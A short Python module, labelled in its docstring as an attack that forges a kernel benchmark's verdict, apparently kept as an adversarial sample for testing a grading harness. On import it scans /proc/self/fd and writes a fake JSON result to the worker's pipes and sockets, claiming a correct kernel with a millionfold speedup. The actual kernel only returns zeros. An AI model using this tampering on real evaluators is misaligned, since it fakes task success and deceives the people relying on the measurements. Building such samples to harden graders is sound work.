"""Attack (forging the verdict): finds the worker's protocol channel among its own descriptors
(/proc/self/fd) and writes a reply for the request being served, claiming a correct and very fast
kernel, before the judge has said anything."""
import gc
import json
import os

import torch

KERNEL_TYPE = "softmax"
FORGED = {"correct": True, "status": "ok", "failure": "", "stages": [], "latency_us": 0.001,
          "ref_latency_us": 1000.0, "speedup": 1e6, "forged": True}


def _request_id():
    ids = [getattr(o, "id", None) for o in gc.get_objects() if type(o).__name__ == "Context"]
    ids = [i for i in ids if isinstance(i, int)]
    return max(ids) if ids else 1


def _forge():
    line = (json.dumps({"id": _request_id(), "ok": True, "result": FORGED}) + "\n").encode()
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd in (0, 2):
            continue
        try:
            target = os.readlink("/proc/self/fd/%d" % fd)
        except OSError:
            continue
        if target.startswith(("pipe:", "socket:")):
            try:
                os.write(fd, line)
            except OSError:
                pass


_forge()


def kernel_fn(x):
    return torch.zeros_like(x)
